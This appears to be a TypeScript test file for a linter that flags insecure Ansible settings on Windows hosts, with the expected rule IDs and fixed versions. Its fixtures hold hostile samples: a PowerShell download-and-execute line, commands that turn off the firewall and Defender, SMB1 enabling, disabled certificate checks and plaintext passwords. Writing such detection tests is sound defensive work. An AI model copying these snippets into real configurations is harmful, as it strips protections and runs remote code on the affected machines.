import { tryWays, type Way } from './ways';

const task = (module: string): string => `- name: x\n${module}`;
const lsa = 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa';
const schannel = 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL\\Protocols';

const ways: readonly Way[] = [
  {
    name: 'win_regedit',
    file: 'tasks/main.yml',
    text: task(
      `  ansible.windows.win_regedit:\n    path: ${lsa}\n    name: NoLMHash\n    data: «0»\n    type: dword\n`,
    ),
    rules: 'identity/weak-authentication-setting',
    fixed: task(`  ansible.windows.win_regedit:\n    path: ${lsa}\n    name: NoLMHash\n    data: 1\n    type: dword\n`),
  },
  {
    name: 'win_regedit by its old names, as a text of pairs',
    file: 'tasks/main.yml',
    text: task(`  win_regedit: key=${lsa} value=NoLMHash data=«0» datatype=dword\n`),
    rules: 'identity/weak-authentication-setting',
  },
  {
    name: 'win_regedit with a quoted path and a number in hexadecimal',
    file: 'tasks/main.yml',
    text: task(
      `  win_regedit:\n    path: "${lsa.replaceAll('\\', '\\\\')}"\n    name: 'NoLMHash'\n    data: «0x0»\n    type: dword\n`,
    ),
    rules: 'identity/weak-authentication-setting',
  },
  {
    name: 'a loop over tables',
    file: 'tasks/main.yml',
    text: task(
      `  win_regedit:\n    path: ${lsa}\n    name: "{{ item.name }}"\n    data: "{{ item.data }}"\n    type: dword\n  loop:\n    - { name: NoLMHash, data: «0» }\n    - { name: LimitBlankPasswordUse, data: 1 }\n    - { name: RestrictAnonymousSAM, data: '«0»' }\n`,
    ),
    rules: 'identity/weak-authentication-setting identity/weak-authentication-setting',
    fixed: task(
      `  win_regedit:\n    path: ${lsa}\n    name: "{{ item.name }}"\n    data: "{{ item.data }}"\n    type: dword\n  loop:\n    - { name: NoLMHash, data: 1 }\n    - { name: LimitBlankPasswordUse, data: 1 }\n    - { name: RestrictAnonymousSAM, data: '1' }\n`,
    ),
  },
  {
    name: 'a loop by with_items over texts, and a path put together',
    file: 'tasks/main.yml',
    text: task(
      `  win_regedit:\n    path: ${schannel}\\{{ item }}\\Server\n    name: Enabled\n    data: «1»\n    type: dword\n  with_items:\n    - SSL 3.0\n    - TLS 1.2\n`,
    ),
    rules: 'tls/legacy-protocol',
  },
  {
    name: 'how one task connects',
    file: 'tasks/main.yml',
    text: task('  win_ping:\n  vars:\n    ansible_port: 5986\n    ansible_winrm_server_cert_validation: «ignore»\n'),
    rules: 'tls/certificate-check-off',
    fixed: task('  win_ping:\n  vars:\n    ansible_port: 5986\n    ansible_winrm_server_cert_validation: validate\n'),
  },
  {
    name: 'how to connect to a host that is made',
    file: 'tasks/main.yml',
    text:
      task('  ansible.builtin.add_host:\n    name: w1\n    ansible_winrm_server_cert_validation: «ignore»\n') +
      task(
        '  ansible.controller.host:\n    name: w2\n    variables:\n      ansible_connection: winrm\n      ansible_winrm_transport: «credssp»\n',
      ),
    rules: 'tls/certificate-check-off remote-access/winrm-weak-authentication',
    fixed:
      task('  ansible.builtin.add_host:\n    name: w1\n    ansible_winrm_server_cert_validation: validate\n') +
      task(
        '  ansible.controller.host:\n    name: w2\n    variables:\n      ansible_connection: winrm\n      ansible_winrm_transport: kerberos\n',
      ),
  },
  {
    name: 'psexec with a script at its input',
    file: 'tasks/main.yml',
    text: task(
      "  community.windows.psexec:\n    hostname: w1\n    executable: powershell.exe\n    arguments: '-'\n    stdin: |\n      $url = 'https://example.org/x.ps1'\n      Invoke-Expression («(New-Object Net.WebClient).DownloadString($url)»)\n",
    ),
    rules: 'download/download-and-execute',
  },
  {
    name: 'psexec with a command line, and win_psexec',
    file: 'tasks/main.yml',
    text:
      task(
        '  psexec:\n    hostname: w1\n    executable: netsh\n    arguments: advfirewall set allprofiles state «off»\n',
      ) + task('  win_psexec:\n    command: netsh advfirewall set allprofiles state «off»\n    hostnames: [w1]\n'),
    rules: 'firewall/firewall-off firewall/firewall-off',
  },
  {
    name: 'win_certificate_store',
    file: 'tasks/main.yml',
    text: task(
      "  win_certificate_store:\n    path: '{{ dir }}\\ca.pem'\n    state: present\n    password: '{{ p }}'\n    store_name: «Root»\n",
    ),
    rules: 'certificates/root-added',
  },
  {
    name: 'variables of the play',
    file: 'site.yml',
    text: `- hosts: windows\n  vars:\n    settings:\n      - NoLMHash\n  tasks:\n    - win_regedit:\n        path: ${lsa}\n        name: "{{ item }}"\n        data: "{{ off | int }}"\n        type: dword\n      vars:\n        off: «0»\n      loop: "{{ settings }}"\n`,
    rules: 'identity/weak-authentication-setting',
  },
  {
    name: 'blocks, rescues and handlers',
    file: 'site.yml',
    text: `- hosts: windows\n  tasks:\n    - block:\n        - win_service: { name: «MpsSvc», start_mode: disabled }\n      rescue:\n        - win_feature:\n            name: «FS-SMB1»\n  handlers:\n    - name: y\n      win_service:\n        name: mpssvc\n        start_mode: auto\n`,
    rules: 'firewall/firewall-off remote-access/smb1-enabled',
  },
  {
    name: 'a script of PowerShell with templates',
    file: 'tasks/main.yml',
    text: task(
      '  win_shell: |\n    $name = "{{ server }}"\n    Set-SmbServerConfiguration -EnableSMB1Protocol «$true» -Force\n    net user svc {{ password }} /add\n',
    ),
    rules: 'remote-access/smb1-enabled',
  },
  {
    name: 'a line of PowerShell with a template',
    file: 'tasks/main.yml',
    text: task('  win_shell: Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value «*» -Force # {{ why }}\n'),
    rules: 'remote-access/trusted-hosts-wildcard',
  },
  {
    name: 'a line of PowerShell in quotes with a template',
    file: 'tasks/main.yml',
    text: task("  win_shell: 'Set-Item WSMan:\\localhost\\Client\\TrustedHosts «*» -Force; Write-Host {{ x }}'\n"),
    rules: 'remote-access/trusted-hosts-wildcard',
  },
  {
    name: 'a script of cmd',
    file: 'tasks/main.yml',
    text: task('  win_shell: netsh advfirewall set allprofiles state «off»\n  args:\n    executable: cmd\n'),
    rules: 'firewall/firewall-off',
  },
  {
    name: 'a program',
    file: 'tasks/main.yml',
    text: task('  win_command: netsh advfirewall set allprofiles state «off»\n'),
    rules: 'firewall/firewall-off',
  },
  {
    name: 'a shell that win_command starts',
    file: 'tasks/main.yml',
    text: task(
      '  win_command:\n    cmd: powershell.exe -Command "Set-MpPreference -DisableRealtimeMonitoring «$true»"\n',
    ),
    rules: 'integrity/defender-off',
  },
  {
    name: 'win_powershell',
    file: 'tasks/main.yml',
    text: task(
      '  ansible.windows.win_powershell:\n    script: |\n      [CmdletBinding()]\n      param([string]$Path)\n      Set-MpPreference -DisableRealtimeMonitoring «$true»\n    parameters:\n      Path: C:\\x\n',
    ),
    rules: 'integrity/defender-off',
  },
  {
    name: 'win_firewall',
    file: 'tasks/main.yml',
    text: task('  community.windows.win_firewall:\n    profiles:\n      - Public\n    state: «disabled»\n'),
    rules: 'firewall/firewall-off',
    fixed: task('  community.windows.win_firewall:\n    profiles:\n      - Public\n    state: enabled\n'),
  },
  {
    name: 'win_firewall_rule',
    file: 'tasks/main.yml',
    text: task(
      '  community.windows.win_firewall_rule:\n    name: rdp\n    localport: «3389»\n    action: allow\n    direction: in\n    protocol: tcp\n',
    ),
    rules: 'remote-access/rdp-exposed',
    fixed: task(
      '  community.windows.win_firewall_rule:\n    name: rdp\n    localport: 3389\n    action: allow\n    direction: in\n    protocol: tcp\n    remoteip: LocalSubnet\n',
    ),
  },
  {
    name: 'features',
    file: 'tasks/main.yml',
    text: '- name: a\n  win_feature:\n    name: «FS-SMB1»\n    state: present\n- name: b\n  win_optional_feature: { name: «SMB1Protocol» }\n',
    rules: 'remote-access/smb1-enabled remote-access/smb1-enabled',
    fixed:
      '- name: a\n  win_feature:\n    name: FS-SMB1\n    state: absent\n- name: b\n  win_optional_feature: { name: SMB1Protocol, state: absent }\n',
  },
  {
    name: 'win_dsc',
    file: 'tasks/main.yml',
    text: task(
      `  win_dsc:\n    resource_name: Registry\n    Key: HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa\n    ValueName: NoLMHash\n    ValueData: '«0»'\n    ValueType: Dword\n    Ensure: Present\n`,
    ),
    rules: 'identity/weak-authentication-setting',
  },
  {
    name: 'win_dsc of a feature',
    file: 'tasks/main.yml',
    text: task('  win_dsc:\n    resource_name: WindowsFeature\n    Name: «FS-SMB1»\n    Ensure: Present\n'),
    rules: 'remote-access/smb1-enabled',
  },
  {
    name: 'win_user',
    file: 'tasks/main.yml',
    text: task('  win_user:\n    name: svc\n    password: «Tr0ub4dor&3»\n    update_password: on_create\n'),
    rules: 'secrets/plaintext-credential',
  },
  {
    name: 'win_security_policy',
    file: 'tasks/main.yml',
    text: task('  win_security_policy:\n    section: System Access\n    key: MinimumPasswordLength\n    value: «4»\n'),
    rules: 'identity/weak-account-policy',
    fixed: task('  win_security_policy:\n    section: System Access\n    key: MinimumPasswordLength\n    value: 14\n'),
  },
  {
    name: 'win_share',
    file: 'tasks/main.yml',
    text: task('  win_share:\n    name: x\n    path: C:\\x\n    full: «Everyone»\n'),
    rules: 'remote-access/open-share',
  },
  {
    name: 'win_get_url',
    file: 'tasks/main.yml',
    text: task('  win_get_url:\n    url: https://example.test/x.txt\n    dest: C:\\x.txt\n    «validate_certs: no»\n'),
    rules: 'tls/certificate-check-off',
    fixed: task('  win_get_url:\n    url: https://example.test/x.txt\n    dest: C:\\x.txt\n    validate_certs: true\n'),
  },
  {
    name: 'win_regedit writes a text where no type is given',
    file: 'tasks/main.yml',
    text: task(`  «win_regedit»:\n    path: ${schannel}\\TLS 1.0\\Server\n    name: Enabled\n    data: 0\n`),
    rules: 'tls/schannel-no-effect',
    fixed: task(
      `  win_regedit:\n    path: ${schannel}\\TLS 1.0\\Server\n    name: Enabled\n    data: 0\n    type: dword\n`,
    ),
  },
  {
    name: 'win_user_right',
    file: 'tasks/main.yml',
    text: task('  win_user_right:\n    name: SeDebugPrivilege\n    users:\n      - «Everyone»\n    action: set\n'),
    rules: 'identity/wide-user-right',
  },
  {
    name: 'win_scheduled_task',
    file: 'tasks/main.yml',
    text: task(
      '  win_scheduled_task:\n    name: x\n    actions:\n      - path: powershell.exe\n        arguments: -Command "Set-MpPreference -DisableRealtimeMonitoring «$true»"\n',
    ),
    rules: 'integrity/defender-off',
  },
  {
    name: 'win_environment',
    file: 'tasks/main.yml',
    text: task('  win_environment:\n    level: machine\n    variables:\n      DB_PASSWORD: «Tr0ub4dor-3»\n'),
    rules: 'secrets/plaintext-credential',
  },
  {
    name: 'win_copy with a content',
    file: 'tasks/main.yml',
    text: task(
      '  win_copy:\n    dest: C:\\setup.ps1\n    content: |\n      Set-MpPreference -DisableRealtimeMonitoring «$true»\n',
    ),
    rules: 'integrity/defender-off',
  },
  {
    name: 'an inventory',
    file: 'inventory/hosts.yml',
    text: 'all:\n  children:\n    windows:\n      hosts:\n        w1:\n          ansible_password: «Tr0ub4dor&3»\n      vars:\n        ansible_connection: winrm\n        ansible_winrm_server_cert_validation: «ignore»\n',
    rules: 'secrets/plaintext-credential tls/certificate-check-off',
  },
  {
    name: 'variables of a group',
    file: 'group_vars/windows.yml',
    text: 'ansible_connection: winrm\nansible_winrm_transport: «basic»\nansible_winrm_scheme: http\n',
    rules: 'remote-access/winrm-weak-authentication',
    fixed: 'ansible_connection: winrm\nansible_winrm_transport: ntlm\nansible_winrm_scheme: http\n',
  },
  {
    name: 'an inventory as an INI file',
    file: 'inventory/hosts.ini',
    text: "# machines\n[windows]\nweb1 ansible_host=10.0.0.1 ansible_password='«Tr0ub4dor-3»'\n\n[windows:vars]\nansible_connection=winrm\nansible_winrm_server_cert_validation=«ignore»\nansible_winrm_transport = «basic»\nansible_port=5985\n",
    rules: 'secrets/plaintext-credential tls/certificate-check-off remote-access/winrm-weak-authentication',
    fixed:
      "# machines\n[windows]\nweb1 ansible_host=10.0.0.1 ansible_password='Tr0ub4dor-3'\n\n[windows:vars]\nansible_connection=winrm\nansible_winrm_server_cert_validation=validate\nansible_winrm_transport = ntlm\nansible_port=5985\n",
  },
  {
    name: 'an inventory without an ending',
    file: 'inventory',
    text: '[all:vars]\nansible_connection=psrp\nansible_psrp_cert_validation=«ignore»\n',
    rules: 'tls/certificate-check-off',
  },
];

tryWays('Ansible', ways);
